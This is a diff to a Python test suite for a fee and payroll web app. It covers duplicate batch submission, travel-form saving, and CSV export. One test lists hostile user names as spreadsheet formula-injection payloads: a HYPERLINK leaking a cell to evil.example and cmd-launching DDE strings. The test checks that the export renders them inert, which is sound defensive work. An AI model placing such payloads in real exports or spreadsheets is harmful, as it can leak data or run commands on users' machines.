@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import logging
+import time
 from datetime import date
 from decimal import Decimal
 from typing import Any
@@ -192,8 +193,14 @@ def test_review_batch_and_exports_through_the_pages(
     pdf = finance.post(f"/fees/invoices/{invoice.id}.pdf", data={"csrf_token": token})
     assert pdf.mimetype == "application/pdf" and pdf.data.startswith(b"%PDF")
     validate_reference(invoice.reference)
-    # A second batch attempt gets a clear message.
-    response = finance.post("/fees/batches", data={"csrf_token": token, "group": "2026-02-01|0000"})
+    # The same form sent again leads to the batch already made, not to a second one ...
+    again = finance.post("/fees/batches", data={"csrf_token": token, "group": "2026-02-01|0000"})
+    assert again.status_code == 303 and again.headers["Location"] == response.headers["Location"]
+    assert len(db.session.scalars(select(PaymentBatch)).all()) == 1
+    # ... and a new attempt from a fresh page gets a clear message.
+    time.sleep(1.05)  # a page rendered a second later carries a new token
+    fresh = csrf_token(finance, "/fees/batches")
+    response = finance.post("/fees/batches", data={"csrf_token": fresh, "group": "2026-02-01|0000"})
     assert response.status_code == 400  # the choice no longer exists
 
 
@@ -514,3 +521,87 @@ def test_payee_sees_payment_and_invoice_reference(
     page = own.get(f"/fees/claims/{claim.id}").get_data(as_text=True)
     assert invoice.reference in page
     assert "Maksussa" in own.get("/fees/").get_data(as_text=True)
+
+
+HOSTILE_NAMES = [
+    '=HYPERLINK("http://evil.example/?leak="&A2,"x")',
+    *(prefix + 'cmd|"/c calc"!A1' for prefix in ("+", "-", "@", "\uff1d")),
+]
+
+
+def test_payroll_csv_neutralises_formulas_in_names_and_keeps_codes_and_amounts(
+    db: Any,
+    schedules: Any,
+    activity: Any,
+    participate: Any,
+    create_user: Any,
+    login_as: Any,
+) -> None:
+    council = activity(title="Vanhusneuvosto")
+    coordinator = create_user("coordinator")
+    finance_user = create_user("finance_approver")
+    payees = []
+    for offset, name in enumerate(HOSTILE_NAMES):
+        payee = create_user("expert", name=name)
+        services.save_payee_details(
+            actor=payee, user=payee, method="payroll", identity_code=HETU, iban=IBAN
+        )
+        participate(council, payee, date(2026, 3, 2 + offset), str(1 + offset))
+        payees.append(payee)
+    services.generate_claims(actor=None, month=date(2026, 3, 1))
+    for payee in payees:
+        claim = _claim_of(db, payee)
+        services.submit_claim(actor=payee, claim=claim)
+        services.check_claim(actor=coordinator, claim_id=claim.id)
+        services.approve_claim(actor=finance_user, claim_id=claim.id)
+    batch = services.create_payment_batch(
+        actor=finance_user, month=date(2026, 3, 1), cost_centre="0000"
+    )
+    expected = {
+        (payee.name, line.code): line.amount
+        for payee in payees
+        for line in _claim_of(db, payee).lines
+    }
+
+    finance = login_as(user=finance_user)
+    token = csrf_token(finance, f"/fees/batches/{batch.id}")
+    response = finance.post(f"/fees/batches/{batch.id}/payroll.csv", data={"csrf_token": token})
+    assert response.status_code == 200
+    text = response.get_data(as_text=True).lstrip("\ufeff")
+    # Same dialect as before: semicolons, CRLF line ends.
+    assert text.count("\r\n") == len(expected) + 1 and "\n" not in text.replace("\r\n", "")
+    rows = list(csv.DictReader(io.StringIO(text, newline=""), delimiter=";"))
+    assert len(rows) == len(expected)
+    seen = {}
+    for row in rows:
+        # Spreadsheets show a leading apostrophe as text: the name is kept, but inert.
+        assert row["person"].startswith("'")
+        assert row["person"][1:] in HOSTILE_NAMES
+        assert row["identity_code"] == HETU
+        seen[(row["person"][1:], row["fee_type"])] = Decimal(row["amount"].replace(",", "."))
+    assert seen == expected
+
+
+@pytest.mark.parametrize("km, hours", [("", ""), ("0", "0"), ("", "7"), ("0,0", "")])
+def test_travel_without_driving_is_saved(
+    db: Any, schedules: Any, activity: Any, participate: Any, login_as: Any, km: str, hours: str
+) -> None:
+    """The form says to leave the kilometres empty when you did not drive: that must save."""
+    client = login_as("expert", locale="en")
+    participate(activity(), client.user, date(2026, 1, 14), "2.5")
+    services.generate_claims(actor=None)
+    claim = _claim_of(db, client.user)
+    item = claim.items[0]
+    response = client.post(
+        f"/fees/claims/{claim.id}/items/{item.id}/travel",
+        data={
+            "csrf_token": csrf_token(client, f"/fees/claims/{claim.id}"),
+            f"item{item.id}-km": km,
+            f"item{item.id}-route": "",
+            f"item{item.id}-hours_away": hours,
+        },
+    )
+    assert response.status_code == 302
+    saved = _claim_of(db, client.user).items[0]
+    assert saved.km == 0
+    assert saved.hours_away == (D(hours.replace(",", ".")) if hours else 0)
